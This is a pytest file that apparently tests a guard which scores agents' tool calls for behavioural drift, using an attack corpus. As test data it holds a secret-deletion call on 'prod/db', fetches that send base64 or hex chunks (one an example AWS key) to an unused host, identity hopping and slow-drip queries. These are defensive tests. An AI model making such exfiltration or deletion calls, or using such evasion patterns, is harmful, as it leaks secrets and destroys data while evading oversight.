"""The `drift` group of the attack corpus, against everything that assesses a call, with a clock of its own.

The corpus's policy asks for consent whatever the signals say, so these tests give the tools milder tags: what is asked
for more than the tags ask is the signals' doing. DRF-008 (a forged address) is the HTTP front's, DRF-010 and DRF-014
(killed, broken scorer) stand in `tests/integration/test_drift_story.py`.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import replace
from itertools import count
from pathlib import Path

import pytest

from guard.drift.assess import Assessor
from guard.drift.behaviour import Behaviour
from guard.drift.client import ClientSignal
from guard.drift.escalation import EscalationSignal
from guard.drift.hopping import HoppingSignal
from guard.drift.hours import HourSignal
from guard.drift.network import NetworkSignal, network_of
from guard.drift.places import PlaceSignal
from guard.drift.profile import DAY
from guard.drift.profiles import Profiles, peers_of
from guard.drift.rate import RateSignal
from guard.drift.snapshot import dump
from guard.drift.volume import VolumeSignal
from guard.model import Band, Call, Classification, Demand, Finding, Json, ProofClass, Sensitivity, Source
from guard.requirement import required
from tests import nouns

CORPUS = Path(__file__).parents[3] / "shared" / "attacks"
SAFE = Classification(sensitivity=Sensitivity.PUBLIC, effects=frozenset({"read"}))
QUERY = Classification(sensitivity=Sensitivity.SENSITIVE, effects=frozenset({"read"}))
FETCH = Classification(sensitivity=Sensitivity.SENSITIVE, effects=frozenset({"egress"}))
WIPE = Classification(sensitivity=Sensitivity.CRITICAL, effects=frozenset({"destroy"}))
TAGS = {"docs.search": SAFE, "db.query": QUERY, "http.fetch": FETCH, "vault.delete_secret": WIPE}
NOTHING = frozenset[ProofClass]()
IDS = count()
NINE = nouns.NOW - nouns.NOW % DAY + 9 * 3600.0


class Office:
    """Agents of one server, all signals, and what they learnt."""

    def __init__(self) -> None:
        self.profiles, self.now = Profiles(), NINE
        self.assessor = Assessor(
            [NetworkSignal(self.profiles), HourSignal(self.profiles), ClientSignal(self.profiles)],
            Behaviour(self.profiles, b"k" * 32),
            VolumeSignal(self.profiles),
            places=PlaceSignal(self.profiles),
            hopping=HoppingSignal(self.profiles, 5),
            escalation=EscalationSignal(self.profiles, nouns.IRREVERSIBLE),
            rate=RateSignal(self.profiles),
        )

    def call(
        self,
        tool: str,
        args: Mapping[str, Json],
        *,
        who: str = "alice",
        client: str = "robot/1",
        address: str = "192.0.2.7",
    ) -> Call:
        principal = replace(nouns.PRINCIPAL, subject=who, credential=f"key-of-{who}")
        for key in (principal.credential, peers_of("payments")):
            if key not in self.profiles:
                self.profiles.load(key, None)
        made = nouns.call(tool, args, random=f"{next(IDS):022d}", principal=principal)
        return replace(made, received=self.now, source=Source(transport="http", address=address, client=client))

    def asks(self, call: Call) -> tuple[Finding, ...]:
        return self.assessor.assess(call, TAGS[call.name])

    def runs(self, call: Call, size: int = 200) -> tuple[Finding, ...]:
        found = self.asks(call)
        self.assessor.learn(call, NOTHING, b'{"result": "rows"}', size=size)
        self.assessor.ended(call)
        return found

    def works(self, days: int = 40) -> Office:
        """Office hours: a search, a query, the same page."""
        for day in range(days):
            self.now = NINE + day * DAY
            for hour in range(3):
                self.now += hour * 3600.0
                self.runs(self.call("docs.search", {"q": "weekly"}))
                self.runs(self.call("db.query", {"limit": 10}))
                self.runs(self.call("http.fetch", {"url": "https://corp.example/report"}))
        self.now = NINE + days * DAY
        return self


def demands(call: Call, findings: tuple[Finding, ...]) -> frozenset[Demand]:
    """What the shipped table asks for."""
    return required(TAGS[call.name], findings, irreversible=nouns.IRREVERSIBLE)[0].demands


@pytest.fixture(scope="module")
def grown() -> Office:
    """An agent with forty days behind it; tests ask and teach nothing."""
    return Office().works()


def test_every_record_of_the_group_is_answered_for() -> None:
    if not CORPUS.exists():
        pytest.skip(f"there is no attack corpus in {CORPUS}")
    records = map(json.loads, (CORPUS / "attacks.jsonl").read_text().splitlines())
    wanted = {one["id"] for one in records if one["group"] == "drift"}
    assert wanted == {f"DRF-{number:03d}" for number in (3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 14)}


def test_ordinary_work_asks_for_nothing(grown: Office) -> None:
    for tool, args in [("docs.search", {"q": "weekly"}), ("http.fetch", {"url": "https://corp.example/report"})]:
        call = grown.call(tool, args)
        assert demands(call, grown.asks(call)) == frozenset()


def test_drf_003_fifty_fresh_identities_are_held_against_what_their_server_knows(grown: Office) -> None:
    for number in range(50):
        call = grown.call("vault.delete_secret", {"path": "prod/db"}, who=f"new-{number}")
        assert Demand.CONSENT in demands(call, grown.asks(call))


def test_drf_003_fifty_identities_from_one_network_must_prove_possession_after_the_first_few() -> None:
    office, asked = Office(), 0
    for number in range(50):
        call = office.call("db.query", {"limit": 1000}, who=f"new-{number}", address="203.0.113.9")
        asked += Demand.POSSESSION in demands(call, office.runs(call))
    assert asked == 45


def test_drf_004_another_client_name_on_each_call_resets_nothing_and_is_a_doubt_itself(grown: Office) -> None:
    for number in range(20):
        call = grown.call("db.query", {"limit": 10}, client=f"x{number}/1")
        assert Demand.POSSESSION in demands(call, grown.asks(call))


def test_drf_005_a_drip_of_small_queries_adds_up() -> None:
    office = Office().works(20)
    asked = 0
    for _ in range(1000):
        call = office.call("db.query", {"limit": 10})
        asked += Demand.CONSENT in demands(call, office.runs(call))
        office.now += 60.0 / 4  # within the day
    assert asked >= 1


@pytest.mark.parametrize("chunk", ["QUtJQUlPU0ZPRE5ON0VYQU1QTEU=", "414b4941", "H4sIAAAAAAAA", "NXVNVBFSBQAA7RKNZCYR"])
def test_drf_006_an_encoded_chunk_goes_to_a_place_never_used(grown: Office, chunk: str) -> None:
    call = grown.call("http.fetch", {"url": f"http://x/?q={chunk}"})
    assert Demand.CONSENT in demands(call, grown.asks(call))


def test_drf_007_the_guards_own_clock_counts_and_three_at_night_is_strange(grown: Office) -> None:
    night = replace(grown.call("db.query", {"limit": 10, "ts": "2026-11-22T10:00:00Z"}), received=grown.now - 6 * 3600)
    assert Demand.POSSESSION in demands(night, grown.asks(night))


@pytest.mark.parametrize(
    ("spelling", "network"),
    [
        ("::ffff:10.0.0.5", "10.0.0.0/24"),
        ("64:ff9b::a00:5", "10.0.0.0/24"),
        ("fe80::1%eth0", "fe80::/64"),
        ("0x0a000005", "unknown '0x0a000005'"),
        ("012.0.0.5", "unknown '012.0.0.5'"),
        ("2001:db8::1", "2001:db8::/64"),
        ("2001:DB8:0:0::1", "2001:db8::/64"),
    ],
)
def test_drf_009_one_address_has_one_network_however_it_is_spelt(spelling: str, network: str) -> None:
    assert network_of(spelling) == network


def test_drf_011_a_flood_of_values_stays_within_its_bounds() -> None:
    office = Office()
    for number in range(3000):
        office.runs(office.call("docs.search", {"q": f"value{number}", f"name{number}": number}))
        office.now += 600.0
    assert len(dump(office.profiles["key-of-alice"])) <= 64 * 1024


def test_drf_013_what_was_denied_two_hundred_times_is_no_more_normal_than_before(grown: Office) -> None:
    before = dump(grown.profiles["key-of-alice"])
    for _ in range(200):
        call = grown.call("vault.delete_secret", {"path": "prod/db"})
        assert max(one.band for one in grown.asks(call)) >= Band.UNUSUAL
    assert dump(grown.profiles["key-of-alice"]) == before
